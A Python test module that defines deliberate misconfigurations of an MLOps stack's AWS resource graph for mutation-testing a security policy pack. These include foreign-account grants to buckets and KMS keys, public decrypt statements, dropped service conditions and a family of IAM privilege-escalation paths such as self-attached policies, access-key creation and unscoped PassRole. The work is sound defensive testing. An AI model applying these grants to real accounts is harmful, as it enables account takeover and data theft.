"""Declarative single-change mutations of the rendered stack graphs, and the policy each
must trip (issue 15: the policy pack is tested by attacking it).

A mutation is one change an attacker or a careless edit would make to a shipped stack's
resource graph: a statement edited, a condition dropped, an input changed, a resource
added. Each names the mandatory policy that must fail on the mutated graph; a mutation
that no longer trips it "survives" (see `tests/policies/test_mutations.py` and the
waivers in `policies/mutation-waivers.yaml`).

Values may hold placeholders resolved against the graph being mutated, so the
definitions do not copy the random suffixes of physical names:
`{arn:<logical name>}`, `{id:<logical name>}`, `{account}` (the stack's account),
`{s}` (the stack name, also in logical names: `mlops-{s}-gh-plan`).
"""

from __future__ import annotations

import copy
import dataclasses
import json
import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from infra.graph import Graph, Resource

ACCOUNT = "123456789012"
"""The account the offline mocks give every stack (its ARNs, its account conditions)."""
FOREIGN = "999988887777"
"""Another AWS account: an attacker's, or merely not this stack's."""
FOREIGN_KEY = f"arn:aws:kms:eu-west-1:{FOREIGN}:key/1111aaaa-2222-bbbb-3333-cccc4444dddd"
FOREIGN_ROOT = f"arn:aws:iam::{FOREIGN}:root"
REPO = "acme/mlops-gitops"
OIDC_SUB = "token.actions.githubusercontent.com:sub"

_PLACEHOLDER = re.compile(r"\{(arn|id):([^}]+)\}")


def _fill(value: Any, graph: Graph) -> Any:
    """`value` with its placeholders resolved against `graph`."""
    if isinstance(value, str):
        value = value.replace("{s}", graph.stack)

        def handle(match: re.Match[str]) -> str:
            resource = _named(graph, match.group(2))
            if match.group(1) == "arn":
                return str(resource.outputs.get("arn"))
            return str(resource.id)

        return _PLACEHOLDER.sub(handle, value).replace("{account}", ACCOUNT)
    if isinstance(value, Mapping):
        return {k: _fill(v, graph) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [_fill(v, graph) for v in value]
    return value


ROLE_POLICY = "aws:iam/rolePolicy:RolePolicy"


def _named(graph: Graph, name: str) -> Resource:
    """The cloud resource called `name`: not the component of the same name, and the role
    rather than its inline policy (`mlops-prod-training` names both)."""
    found = [r for r in graph.resources if r.name == name and not r.type.startswith("mlops:")]
    if len(found) > 1:
        found = [r for r in found if r.type != ROLE_POLICY]
    if len(found) != 1:
        raise KeyError(f"{len(found)} resources named {name!r} in stack {graph.stack}")
    return found[0]


class _Resources:
    """The graph's resources, copied on first change (the rendered graph stays intact)."""

    def __init__(self, graph: Graph):
        self.graph = graph
        self.items = list(graph.resources)

    def edit(self, name: str, key: str | None = None, type: str | None = None) -> dict[str, Any]:
        """A private copy of the inputs of the resource called `name` (that has input `key`),
        to change in place."""
        name = name.replace("{s}", self.graph.stack)
        for index, resource in enumerate(self.items):
            if (
                resource.name == name
                and not resource.type.startswith("mlops:")
                and (key is None or key in resource.inputs)
                and (type is None or resource.type == type)
            ):
                inputs = copy.deepcopy(resource.inputs)
                self.items[index] = dataclasses.replace(resource, inputs=inputs)
                return inputs
        raise KeyError(f"no resource {name!r} in stack {self.graph.stack}")

    def add(self, resource: Resource) -> None:
        self.items.append(resource)


class Change:
    def apply(self, resources: _Resources) -> None:  # pragma: no cover - interface
        raise NotImplementedError


def _document(inputs: dict[str, Any], key: str) -> dict[str, Any]:
    return json.loads(inputs[key])


@dataclass(frozen=True)
class EditStatement(Change):
    """Change one statement (by Sid) of a policy input: set or drop its elements."""

    resource: str
    sid: str
    set: Mapping[str, Any] = field(default_factory=dict)
    drop: tuple[str, ...] = ()
    key: str = "policy"

    def apply(self, resources: _Resources) -> None:
        inputs = resources.edit(self.resource, self.key)
        document = _document(inputs, self.key)
        matches = [s for s in document["Statement"] if s.get("Sid") == self.sid]
        if len(matches) != 1:
            raise KeyError(f"{self.resource}: {len(matches)} statements with Sid {self.sid}")
        statement = matches[0]
        for element in self.drop:
            statement.pop(element, None)
        statement.update(_fill(dict(self.set), resources.graph))
        inputs[self.key] = json.dumps(document)


@dataclass(frozen=True)
class RemoveStatement(Change):
    resource: str
    sid: str
    key: str = "policy"

    def apply(self, resources: _Resources) -> None:
        inputs = resources.edit(self.resource, self.key)
        document = _document(inputs, self.key)
        kept = [s for s in document["Statement"] if s.get("Sid") != self.sid]
        if len(kept) == len(document["Statement"]):
            raise KeyError(f"{self.resource}: no statement {self.sid}")
        document["Statement"] = kept
        inputs[self.key] = json.dumps(document)


@dataclass(frozen=True)
class AddStatement(Change):
    resource: str
    statement: Mapping[str, Any]
    key: str = "policy"

    def apply(self, resources: _Resources) -> None:
        inputs = resources.edit(self.resource, self.key)
        document = _document(inputs, self.key)
        document["Statement"].append(_fill(dict(self.statement), resources.graph))
        inputs[self.key] = json.dumps(document)


@dataclass(frozen=True)
class SetInput(Change):
    """Set (or with `None`, delete) the input at a dotted path (list indexes as digits)."""

    resource: str
    path: str
    value: Any
    type: str | None = None
    """The resource's type, where a name is shared (a bucket and a trail)."""

    def apply(self, resources: _Resources) -> None:
        node: Any = resources.edit(self.resource, type=self.type)
        *parents, last = self.path.split(".")
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node.setdefault(part, {})
        if self.value is None:
            if isinstance(node, list):
                del node[int(last)]
            else:
                node.pop(last, None)
        elif isinstance(node, list):
            node[int(last)] = _fill(self.value, resources.graph)
        else:
            node[last] = _fill(self.value, resources.graph)


@dataclass(frozen=True)
class AddResource(Change):
    type: str
    name: str
    inputs: Mapping[str, Any]

    def apply(self, resources: _Resources) -> None:
        graph = resources.graph
        name = self.name.replace("{s}", graph.stack)
        resources.add(
            Resource(
                urn=f"urn:pulumi:{graph.stack}::mlops::{self.type}::{name}",
                type=self.type,
                name=name,
                parent=None,
                inputs=_fill(dict(self.inputs), graph),
                id=name,
                outputs={},
            )
        )


@dataclass(frozen=True)
class RemoveResources(Change):
    """Delete every cloud resource whose logical name starts with `prefix` (at least one)."""

    prefix: str

    def apply(self, resources: _Resources) -> None:
        prefix = self.prefix.replace("{s}", resources.graph.stack)
        kept = [
            r
            for r in resources.items
            if r.type.startswith("mlops:") or not r.name.startswith(prefix)
        ]
        if len(kept) == len(resources.items):
            raise KeyError(f"no resource named {prefix}* in stack {resources.graph.stack}")
        resources.items = kept


@dataclass(frozen=True)
class Mutation:
    id: str
    family: str
    kills: str
    """The mandatory policy that must fail on the mutated graph."""
    changes: tuple[Change, ...]
    stack: str = "prod"

    def apply(self, graph: Graph) -> Graph:
        resources = _Resources(graph)
        for change in self.changes:
            change.apply(resources)
        return Graph(graph.stack, tuple(resources.items))


MUTATIONS: list[Mutation] = []


def mutation(id: str, family: str, kills: str, *changes: Change, stack: str = "prod") -> None:
    MUTATIONS.append(Mutation(id, family, kills, changes, stack))


def _sub(role: str, value: str | list[str]) -> Change:
    """Set the GitHub OIDC subject a role's trust accepts."""
    return EditStatement(
        role,
        "GitHubActionsAssume",
        set={"Condition": {"StringEquals": {
            "token.actions.githubusercontent.com:aud": "sts.amazonaws.com",
            OIDC_SUB: value,
        }}},
        key="assumeRolePolicy",
    )  # fmt: skip


def _allow(actions: list[str], resources: list[str], sid: str = "Mutated", **extra: Any):
    return {"Sid": sid, "Effect": "Allow", "Action": actions, "Resource": resources, **extra}


TRAIL = "aws:cloudtrail/trail:Trail"
BUCKETS = ("artifacts", "data", "capture", "trail", "logs")
KMS_BUCKETS = ("artifacts", "data", "capture", "trail")
KEYS = ("data-key", "signing-key", "logs-key")
GH_ROLES = ("gh-build", "gh-approve", "gh-deploy", "gh-monitor", "gh-release")

# ---- already caught before issue 15 (regression guard) --------------------------------
for b in BUCKETS:
    mutation(f"s3-versioning-suspended-{b}", "baseline", "s3-bucket-versioning-enabled",
             SetInput(f"mlops-{{s}}-{b}-versioning", "versioningConfiguration.status",
                      "Suspended"))  # fmt: skip
    mutation(
        f"s3-public-policy-allowed-{b}",
        "baseline",
        "s3-bucket-public-access-blocked",
        SetInput(f"mlops-{{s}}-{b}-public-access", "blockPublicPolicy", False),
    )
    mutation(
        f"s3-tls-deny-removed-{b}",
        "baseline",
        "s3-bucket-policy-denies-insecure-transport",
        RemoveStatement(f"mlops-{{s}}-{b}-policy", "DenyInsecureTransport"),
    )
for b in KMS_BUCKETS:
    mutation(f"s3-sse-aes256-{b}", "baseline", "s3-bucket-encrypted-with-customer-kms-key",
             SetInput(f"mlops-{{s}}-{b}-encryption", "rules.0.applyServerSideEncryptionByDefault",
                      {"sseAlgorithm": "AES256"}))  # fmt: skip
mutation(
    "s3-bucket-key-off-data",
    "baseline",
    "s3-bucket-encrypted-with-customer-kms-key",
    SetInput("mlops-{s}-data-encryption", "rules.0.bucketKeyEnabled", False),
)
mutation(
    "s3-logs-into-itself",
    "baseline",
    "s3-bucket-access-logging-enabled",
    SetInput("mlops-{s}-artifacts-logging", "targetBucket", "{id:mlops-{s}-artifacts}"),
)
mutation(
    "s3-object-lock-governance",
    "baseline",
    "s3-artifact-bucket-object-lock-in-prod",
    SetInput("mlops-{s}-artifacts-object-lock", "rule.defaultRetention.mode", "GOVERNANCE"),
)
mutation(
    "s3-object-lock-30-days",
    "baseline",
    "s3-artifact-bucket-object-lock-in-prod",
    SetInput("mlops-{s}-artifacts-object-lock", "rule.defaultRetention.days", 30.0),
)
# Captured requests are personal data: they must expire, old versions too (issue 16.7).
# The capture bucket's rules: 0 noncurrent versions, 1 multipart aborts, 2 expiration.
mutation(
    "s3-capture-never-expires",
    "baseline",
    "s3-capture-bucket-data-expires-in-prod",
    SetInput("mlops-{s}-capture-lifecycle", "rules.2", None),
)
mutation(
    "s3-capture-expiry-only-for-an-empty-prefix",
    "baseline",
    "s3-capture-bucket-data-expires-in-prod",
    SetInput("mlops-{s}-capture-lifecycle", "rules.2.filter", {"prefix": "nothing-here/"}),
)
mutation(
    "s3-capture-kept-ten-years",
    "baseline",
    "s3-capture-bucket-data-expires-in-prod",
    SetInput("mlops-{s}-capture-lifecycle", "rules.2.expiration.days", 3650.0),
)
mutation(
    "s3-capture-old-versions-kept-a-year",
    "baseline",
    "s3-capture-bucket-data-expires-in-prod",
    SetInput(
        "mlops-{s}-capture-lifecycle", "rules.0.noncurrentVersionExpiration.noncurrentDays", 365.0
    ),
)
mutation("s3-bucket-policy-grants-policy-change", "baseline",
         "s3-bucket-policy-restricts-principals",
         AddStatement("mlops-{s}-data-policy", _allow(
             ["s3:PutBucketPolicy"], ["arn:aws:s3:::{id:mlops-{s}-data}"],
             Principal={"AWS": "arn:aws:iam::{account}:root"})))  # fmt: skip
for k in ("data-key", "logs-key"):
    mutation(
        f"kms-rotation-off-{k}",
        "baseline",
        "kms-symmetric-key-rotation-enabled",
        SetInput(f"mlops-{{s}}-{k}", "enableKeyRotation", False),
    )
for k in KEYS:
    mutation(
        f"kms-deletion-window-7-{k}",
        "baseline",
        "kms-key-deletion-window-minimum",
        SetInput(f"mlops-{{s}}-{k}", "deletionWindowInDays", 7.0),
    )
mutation(
    "kms-signing-key-rsa",
    "baseline",
    "kms-signing-key-spec-and-usage",
    SetInput("mlops-{s}-signing-key", "customerMasterKeySpec", "RSA_2048"),
)
mutation("kms-root-may-sign", "baseline", "kms-signing-key-sign-restricted",
         EditStatement("mlops-{s}-signing-key", "ReleaseSignerSigns",
                       set={"Principal": {"AWS": ["{arn:mlops-{s}-gh-release}",
                                                  "arn:aws:iam::{account}:root"]}}))  # fmt: skip
mutation(
    "kms-wildcard-grant-inference",
    "baseline",
    "kms-key-policy-no-wildcard-grants",
    EditStatement("mlops-{s}-data-key", "InferenceUsesKey", set={"Action": ["kms:*"]}),
)
mutation("kms-public-decrypt", "baseline", "kms-key-not-publicly-accessible",
         EditStatement("mlops-{s}-data-key", "InferenceUsesKey", set={"Principal": "*"},
                       drop=("Condition",)))  # fmt: skip
mutation("iam-s3-star-release", "baseline", "iam-policy-no-wildcard-actions",
         EditStatement("mlops-{s}-release", "PublishModelsAndSignatures",
                       set={"Action": ["s3:*"]}))  # fmt: skip
mutation(
    "iam-sagemaker-star-deploy",
    "baseline",
    "iam-policy-no-wildcard-actions",
    EditStatement("mlops-{s}-deploy", "ManageServing", set={"Action": ["sagemaker:*"]}),
)
mutation(
    "iam-resource-star-deploy-models",
    "baseline",
    "iam-policy-no-wildcard-resources",
    EditStatement("mlops-{s}-deploy", "ReadSignedModels", set={"Resource": ["*"]}),
)
mutation(
    "iam-admin-statement-plan",
    "baseline",
    "iam-no-administrator-access",
    AddStatement("mlops-{s}-plan", _allow(["*"], ["*"])),
)
mutation("iam-admin-managed-policy-inference", "baseline", "iam-no-administrator-access",
         AddResource("aws:iam/rolePolicyAttachment:RolePolicyAttachment", "mlops-{s}-admin",
                     {"role": "{id:mlops-{s}-inference}",
                      "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}))  # fmt: skip
mutation(
    "iam-lint-resource-mismatch",
    "baseline",
    "iam-policy-documents-lint-clean",
    EditStatement(
        "mlops-{s}-monitor",
        "ListCaptureAndData",
        set={"Resource": ["arn:aws:s3:::{id:mlops-{s}-capture}/*"]},
    ),
)
mutation("oidc-audience-dropped-deploy", "baseline", "iam-oidc-trust-pinned",
         EditStatement("mlops-{s}-gh-deploy", "GitHubActionsAssume", key="assumeRolePolicy",
                       set={"Condition": {"StringEquals": {
                           OIDC_SUB: f"repo:{REPO}:environment:{{s}}"}}}))  # fmt: skip
mutation("oidc-subject-wildcard-release", "baseline", "iam-oidc-trust-pinned",
         EditStatement("mlops-{s}-gh-release", "GitHubActionsAssume", key="assumeRolePolicy",
                       set={"Condition": {
                           "StringEquals": {"token.actions.githubusercontent.com:aud":
                                            "sts.amazonaws.com"},
                           "StringLike": {OIDC_SUB: f"repo:{REPO}:*"}}}))  # fmt: skip
mutation("trust-public-deploy", "baseline", "iam-role-trust-not-public",
         AddStatement("mlops-{s}-gh-deploy", {"Sid": "Anyone", "Effect": "Allow",
                      "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"},
                      key="assumeRolePolicy"))  # fmt: skip
mutation(
    "pr-plan-writes-models",
    "baseline",
    "pull-request-roles-hold-no-release-power",
    AddStatement(
        "mlops-{s}-plan",
        _allow(["s3:PutObject"], ["arn:aws:s3:::{id:mlops-{s}-artifacts}/models/*"]),
    ),
)
mutation(
    "pr-plan-approves",
    "baseline",
    "pull-request-roles-hold-no-release-power",
    AddStatement(
        "mlops-{s}-plan",
        _allow(
            ["sagemaker:UpdateModelPackage"],
            ["arn:aws:sagemaker:eu-west-1:{account}:model-package/mlops-{s}-*"],
        ),
    ),
)
mutation("duties-deploy-signs", "baseline", "release-duties-held-by-separate-roles",
         EditStatement("mlops-{s}-signing-key", "ReleaseSignerSigns",
                       set={"Principal": {"AWS": ["{arn:mlops-{s}-gh-deploy}"]}}),
         AddStatement("mlops-{s}-deploy", _allow(
             ["kms:Sign"], ["{arn:mlops-{s}-signing-key}"])))  # fmt: skip
mutation(
    "sm-network-isolation-off",
    "baseline",
    "sagemaker-model-network-isolation",
    SetInput("mlops-{s}-churn-classifier-v1-model", "enableNetworkIsolation", False),
)
mutation(
    "sm-model-out-of-vpc",
    "baseline",
    "sagemaker-model-in-private-vpc",
    SetInput("mlops-{s}-churn-classifier-v1-model", "vpcConfig", None),
)
mutation(
    "sm-config-unencrypted",
    "baseline",
    "sagemaker-endpoint-config-encrypted",
    SetInput("mlops-{s}-churn-classifier-v1-config", "kmsKeyArn", None),
)
mutation(
    "sm-capture-off",
    "baseline",
    "sagemaker-endpoint-config-data-capture",
    SetInput("mlops-{s}-churn-classifier-v1-config", "dataCaptureConfig.enableCapture", False),
)
mutation("sm-capture-input-only", "baseline", "sagemaker-endpoint-config-data-capture",
         SetInput("mlops-{s}-churn-classifier-v1-config", "dataCaptureConfig.captureOptions",
                  [{"captureMode": "Input"}]))  # fmt: skip
mutation(
    "sm-capture-unencrypted",
    "baseline",
    "sagemaker-endpoint-config-data-capture",
    SetInput("mlops-{s}-churn-classifier-v1-config", "dataCaptureConfig.kmsKeyId", None),
)
mutation("sm-one-instance", "baseline", "sagemaker-endpoint-config-prod-capacity",
         SetInput("mlops-{s}-churn-classifier-v1-config",
                  "productionVariants.0.initialInstanceCount", 1.0))  # fmt: skip
mutation("sm-all-at-once", "baseline", "sagemaker-endpoint-canary-in-prod",
         SetInput("mlops-{s}-churn-classifier-endpoint",
                  "deploymentConfig.blueGreenUpdatePolicy.trafficRoutingConfiguration.type",
                  "ALL_AT_ONCE"))  # fmt: skip
mutation("sm-one-rollback-alarm", "baseline", "sagemaker-endpoint-blue-green-auto-rollback",
         SetInput("mlops-{s}-churn-classifier-endpoint",
                  "deploymentConfig.autoRollbackConfiguration.alarms",
                  [{"alarmName": "mlops-{s}-churn-classifier-model-errors"}]))  # fmt: skip
mutation("sm-rollback-alarm-undeclared", "baseline", "sagemaker-endpoint-rollback-alarms-declared",
         SetInput("mlops-{s}-churn-classifier-endpoint",
                  "deploymentConfig.autoRollbackConfiguration.alarms.0",
                  {"alarmName": "nobody-watches-this"}))  # fmt: skip
mutation(
    "ecr-tags-mutable",
    "baseline",
    "ecr-repository-tags-immutable",
    SetInput("mlops-{s}-images", "imageTagMutability", "MUTABLE"),
)
mutation(
    "ecr-scan-off",
    "baseline",
    "ecr-repository-scan-on-push",
    SetInput("mlops-{s}-images", "imageScanningConfiguration.scanOnPush", False),
)
mutation(
    "sns-unencrypted",
    "baseline",
    "sns-topic-encrypted-with-customer-kms-key",
    SetInput("mlops-{s}-alarms", "kmsMasterKeyId", None),
)
mutation(
    "logs-short-retention",
    "baseline",
    "cloudwatch-log-group-retention",
    SetInput("mlops-{s}-churn-classifier-logs", "retentionInDays", 1.0),
)
mutation(
    "trail-validation-off",
    "baseline",
    "cloudtrail-log-file-validation",
    SetInput("mlops-{s}-trail", "enableLogFileValidation", False, TRAIL),
)
mutation(
    "trail-single-region",
    "baseline",
    "cloudtrail-multi-region-management-events",
    SetInput("mlops-{s}-trail", "isMultiRegionTrail", False, TRAIL),
)

# ---- principals of other accounts -----------------------------------------------------
OWN_KEYS = "encryption-keys-of-stack-account"
OWN_ACCOUNT = "resource-policies-admit-stack-account-only"
for b in KMS_BUCKETS:
    mutation(
        f"foreign-key-bucket-{b}",
        "foreign-principals",
        OWN_KEYS,
        SetInput(
            f"mlops-{{s}}-{b}-encryption",
            "rules.0.applyServerSideEncryptionByDefault.kmsMasterKeyId",
            FOREIGN_KEY,
        ),
    )
for name, path in (
    ("endpoint-config", ("mlops-{s}-churn-classifier-v1-config", "kmsKeyArn")),
    ("data-capture", ("mlops-{s}-churn-classifier-v1-config", "dataCaptureConfig.kmsKeyId")),
    ("topic", ("mlops-{s}-alarms", "kmsMasterKeyId")),
    ("log-group", ("mlops-{s}-churn-classifier-logs", "kmsKeyId")),
    ("repository", ("mlops-{s}-images", "encryptionConfigurations.0.kmsKey")),
    ("trail", ("mlops-{s}-trail", "kmsKeyId")),
):
    mutation(
        f"foreign-key-{name}",
        "foreign-principals",
        OWN_KEYS,
        SetInput(*path, FOREIGN_KEY, TRAIL if name == "trail" else None),
    )
# Staging admits prod's gh-promote (by exact ARN, from Pulumi.staging.yaml's promotesTo) to
# read released models, and prod's account to verify signatures: nothing wider.
PROD_ACCOUNT_ROOT = "arn:aws:iam::555566667777:root"
mutation(
    "promotion-grant-widened-to-prod-root",
    "foreign-principals",
    OWN_ACCOUNT,
    EditStatement(
        "mlops-{s}-artifacts-policy",
        "PromotersReadReleasedModels",
        set={"Principal": {"AWS": PROD_ACCOUNT_ROOT}},
    ),
    stack="staging",
)
mutation(
    "promotion-grant-to-another-prod-role",
    "foreign-principals",
    OWN_ACCOUNT,
    EditStatement(
        "mlops-{s}-artifacts-policy",
        "PromotersReadReleasedModels",
        set={"Principal": {"AWS": "arn:aws:iam::555566667777:role/mlops-prod-gh-plan"}},
    ),
    stack="staging",
)
mutation(
    "promotion-verify-grant-may-sign",
    "foreign-principals",
    OWN_ACCOUNT,
    EditStatement(
        "mlops-{s}-signing-key",
        "PromotingAccountsVerify",
        set={"Action": ["kms:GetPublicKey", "kms:Sign", "kms:Verify"]},
    ),
    stack="staging",
)
for k in KEYS:
    mutation(
        f"foreign-root-kms-star-{k}",
        "foreign-principals",
        OWN_ACCOUNT,
        AddStatement(
            f"mlops-{{s}}-{k}",
            _allow(["kms:*"], ["*"], sid="ForeignAdmin", Principal={"AWS": FOREIGN_ROOT}),
        ),
    )
mutation(
    "foreign-root-uses-data-key",
    "foreign-principals",
    OWN_ACCOUNT,
    EditStatement(
        "mlops-{s}-data-key",
        "InferenceUsesKey",
        set={"Principal": {"AWS": ["{arn:mlops-{s}-inference}", FOREIGN_ROOT]}},
    ),
)
mutation(
    "foreign-bare-account-verifies",
    "foreign-principals",
    OWN_ACCOUNT,
    EditStatement(
        "mlops-{s}-signing-key", "DeployersAndAuditorsVerify", set={"Principal": {"AWS": FOREIGN}}
    ),
)
for b in ("artifacts", "data", "capture"):
    mutation(f"foreign-account-reads-{b}", "foreign-principals", OWN_ACCOUNT,
             AddStatement(f"mlops-{{s}}-{b}-policy", _allow(
                 ["s3:GetObject"], [f"arn:aws:s3:::{{id:mlops-{{s}}-{b}}}/*"],
                 Principal={"AWS": FOREIGN_ROOT})))  # fmt: skip
mutation("foreign-role-writes-artifacts", "foreign-principals", OWN_ACCOUNT,
         AddStatement("mlops-{s}-artifacts-policy", _allow(
             ["s3:PutObject"], ["arn:aws:s3:::{id:mlops-{s}-artifacts}/models/*"],
             Principal={"AWS": f"arn:aws:iam::{FOREIGN}:role/ci"})))  # fmt: skip
mutation(
    "foreign-root-administers-topic",
    "foreign-principals",
    OWN_ACCOUNT,
    EditStatement(
        "mlops-{s}-alarms-policy",
        "AccountAdministersTopic",
        set={"Principal": {"AWS": [FOREIGN_ROOT]}},
    ),
)

# ---- condition values ignored ---------------------------------------------------------
for b in ("artifacts", "data"):
    mutation(f"public-read-any-principal-account-{b}", "conditions", OWN_ACCOUNT,
             AddStatement(f"mlops-{{s}}-{b}-policy", _allow(
                 ["s3:GetObject"], [f"arn:aws:s3:::{{id:mlops-{{s}}-{b}}}/*"], Principal="*",
                 Condition={"StringLike": {"aws:PrincipalAccount": "*"}})))  # fmt: skip
mutation("public-decrypt-any-caller-account", "conditions", OWN_ACCOUNT,
         AddStatement("mlops-{s}-data-key", _allow(
             ["kms:Decrypt"], ["*"], Principal={"AWS": "*"},
             Condition={"StringLike": {"kms:CallerAccount": "*"}})))  # fmt: skip
mutation("public-decrypt-any-org", "conditions", OWN_ACCOUNT,
         AddStatement("mlops-{s}-data-key", _allow(
             ["kms:Decrypt"], ["*"], Principal="*",
             Condition={"StringLike": {"aws:PrincipalOrgID": "o-*"}})))  # fmt: skip
mutation(
    "public-publish-any-source",
    "conditions",
    OWN_ACCOUNT,
    EditStatement(
        "mlops-{s}-alarms-policy",
        "StackAlarmsPublish",
        set={
            "Principal": "*",
            "Condition": {"ArnLike": {"aws:SourceArn": "arn:aws:cloudwatch:*:*:alarm:*"}},
        },
    ),
)
mutation(
    "upload-deny-inverted-artifacts",
    "conditions",
    "s3-bucket-policy-denies-unencrypted-uploads",
    EditStatement(
        "mlops-{s}-artifacts-policy",
        "DenyUploadsWithoutSseKms",
        set={"Condition": {"StringNotEquals": {"s3:x-amz-server-side-encryption": "AES256"}}},
    ),
)
for b, key in (("data", "data-key"), ("capture", "data-key"), ("trail", "logs-key")):
    mutation(
        f"upload-deny-other-key-inverted-{b}",
        "conditions",
        "s3-bucket-policy-denies-unencrypted-uploads",
        EditStatement(
            f"mlops-{{s}}-{b}-policy",
            "DenyUploadsWithOtherKmsKey",
            set={"Condition": {"ArnEqualsIfExists": {
                "s3:x-amz-server-side-encryption-aws-kms-key-id": f"{{arn:mlops-{{s}}-{key}}}"
            }}},
        ),
    )  # fmt: skip
mutation(
    "upload-deny-foreign-key-allowed",
    "conditions",
    "s3-bucket-policy-denies-unencrypted-uploads",
    EditStatement(
        "mlops-{s}-artifacts-policy",
        "DenyUploadsWithOtherKmsKey",
        set={
            "Condition": {
                "ArnNotEqualsIfExists": {
                    "s3:x-amz-server-side-encryption-aws-kms-key-id": FOREIGN_KEY
                }
            }
        },
    ),
)
mutation(
    "upload-deny-other-key-removed",
    "conditions",
    "s3-bucket-policy-denies-unencrypted-uploads",
    RemoveStatement("mlops-{s}-data-policy", "DenyUploadsWithOtherKmsKey"),
)
for resource, sid in (
    ("mlops-{s}-logs-key", "CloudTrailEncryptsLogs"),
    ("mlops-{s}-logs-key", "CloudTrailDescribesKey"),
    ("mlops-{s}-logs-key", "CloudWatchLogsEncryptsFlowLogs"),
    ("mlops-{s}-data-key", "CloudWatchLogsEncrypts"),
    ("mlops-{s}-data-key", "AlarmsPublishToEncryptedTopic"),
    ("mlops-{s}-alarms-policy", "StackAlarmsPublish"),
    ("mlops-{s}-trail-policy", "LogDelivery0Writes"),
    ("mlops-{s}-logs-policy", "LogDelivery0Writes"),
):
    mutation(
        f"service-unscoped-{resource.rsplit('-', 1)[0][9:]}-{sid}",
        "conditions",
        OWN_ACCOUNT,
        EditStatement(resource, sid, drop=("Condition",)),
    )
mutation(
    "service-any-trail",
    "conditions",
    OWN_ACCOUNT,
    EditStatement(
        "mlops-{s}-logs-key",
        "CloudTrailEncryptsLogs",
        set={"Condition": {"StringLike": {"aws:SourceArn": "arn:aws:cloudtrail:*:*:trail/*"}}},
    ),
)
mutation(
    "service-any-log-group",
    "conditions",
    OWN_ACCOUNT,
    EditStatement(
        "mlops-{s}-data-key",
        "CloudWatchLogsEncrypts",
        set={"Condition": {"StringLike": {"kms:EncryptionContext:aws:logs:arn": "arn:aws:logs:*"}}},
    ),
)
for role in ("training", "inference", "flow-logs-role"):
    mutation(
        f"service-trust-unscoped-{role}",
        "conditions",
        "iam-service-role-trust-scoped",
        EditStatement(
            f"mlops-{{s}}-{role}",
            "ServiceAssumes" if "flow" not in role else "FlowLogsAssume",
            drop=("Condition",),
            key="assumeRolePolicy",
        ),
    )
mutation(
    "service-trust-any-account",
    "conditions",
    "iam-service-role-trust-scoped",
    EditStatement(
        "mlops-{s}-training",
        "ServiceAssumes",
        key="assumeRolePolicy",
        set={"Condition": {"StringLike": {"aws:SourceAccount": "*"}}},
    ),
)
mutation(
    "signing-algorithm-unpinned",
    "conditions",
    "kms-signing-key-sign-restricted",
    EditStatement("mlops-{s}-signing-key", "ReleaseSignerSigns", drop=("Condition",)),
)
mutation(
    "signing-algorithm-any",
    "conditions",
    "kms-signing-key-sign-restricted",
    EditStatement(
        "mlops-{s}-signing-key",
        "ReleaseSignerSigns",
        set={"Condition": {"StringLike": {"kms:SigningAlgorithm": "*"}}},
    ),
)

# ---- privilege escalation -------------------------------------------------------------
ESCALATION = "iam-policy-no-privilege-escalation"
for policy, role in (("plan", "gh-plan"), ("build", "gh-build"), ("deploy", "gh-deploy"),
                     ("release", "gh-release"), ("monitor", "gh-monitor")):  # fmt: skip
    mutation(
        f"escalate-put-own-policy-{policy}",
        "escalation",
        ESCALATION,
        AddStatement(
            f"mlops-{{s}}-{policy}", _allow(["iam:PutRolePolicy"], [f"{{arn:mlops-{{s}}-{role}}}"])
        ),
    )
for policy, role in (("deploy", "gh-deploy"), ("approve", "gh-approve")):
    mutation(
        f"escalate-attach-own-policy-{policy}",
        "escalation",
        ESCALATION,
        AddStatement(
            f"mlops-{{s}}-{policy}",
            _allow(["iam:AttachRolePolicy"], [f"{{arn:mlops-{{s}}-{role}}}"]),
        ),
    )
mutation(
    "escalate-create-access-key",
    "escalation",
    ESCALATION,
    AddStatement(
        "mlops-{s}-release", _allow(["iam:CreateAccessKey"], ["arn:aws:iam::{account}:user/*"])
    ),
)
mutation(
    "escalate-policy-version",
    "escalation",
    ESCALATION,
    AddStatement(
        "mlops-{s}-deploy",
        _allow(["iam:CreatePolicyVersion"], ["arn:aws:iam::{account}:policy/mlops-{s}-*"]),
    ),
)
mutation(
    "escalate-update-trust",
    "escalation",
    ESCALATION,
    AddStatement(
        "mlops-{s}-plan",
        _allow(["iam:UpdateAssumeRolePolicy"], ["arn:aws:iam::{account}:role/mlops-{s}-*"]),
    ),
)
mutation(
    "escalate-pass-role-any-service-deploy",
    "escalation",
    ESCALATION,
    EditStatement("mlops-{s}-deploy", "PassInferenceRole", drop=("Condition",)),
)
mutation(
    "escalate-pass-role-any-service-build",
    "escalation",
    ESCALATION,
    EditStatement("mlops-{s}-build", "PassTrainingRole", drop=("Condition",)),
)
mutation(
    "escalate-pass-any-role-training",
    "escalation",
    ESCALATION,
    EditStatement(
        "mlops-{s}-build", "PassTrainingRole", set={"Resource": ["arn:aws:iam::{account}:role/*"]}
    ),
)
mutation(
    "escalate-pass-any-role-models",
    "escalation",
    ESCALATION,
    EditStatement(
        "mlops-{s}-deploy", "PassInferenceRole", set={"Resource": ["arn:aws:iam::{account}:role/*"]}
    ),
)
mutation(
    "escalate-lambda-code",
    "escalation",
    ESCALATION,
    AddStatement(
        "mlops-{s}-deploy",
        _allow(
            ["lambda:UpdateFunctionCode"],
            ["arn:aws:lambda:eu-west-1:{account}:function:mlops-{s}-*"],
        ),
    ),
)
mutation(
    "escalate-glue-endpoint",
    "escalation",
    ESCALATION,
    AddStatement(
        "mlops-{s}-build",
        _allow(["glue:UpdateDevEndpoint"], ["arn:aws:glue:eu-west-1:{account}:devEndpoint/*"]),
    ),
)
mutation(
    "escalate-pr-pass-any-role",
    "escalation",
    ESCALATION,
    EditStatement(
        "mlops-{s}-train", "PassTrainingRole", set={"Resource": ["arn:aws:iam::{account}:role/*"]}
    ),
    stack="staging",
)
mutation(
    "escalate-pr-put-own-policy",
    "escalation",
    ESCALATION,
    AddStatement("mlops-{s}-train", _allow(["iam:PutRolePolicy"], ["{arn:mlops-{s}-gh-train}"])),
    stack="dev",
)

# ---- wildcard ARNs other than '*' ------------------------------------------------------
WILDCARD = "iam-policy-no-wildcard-resources"
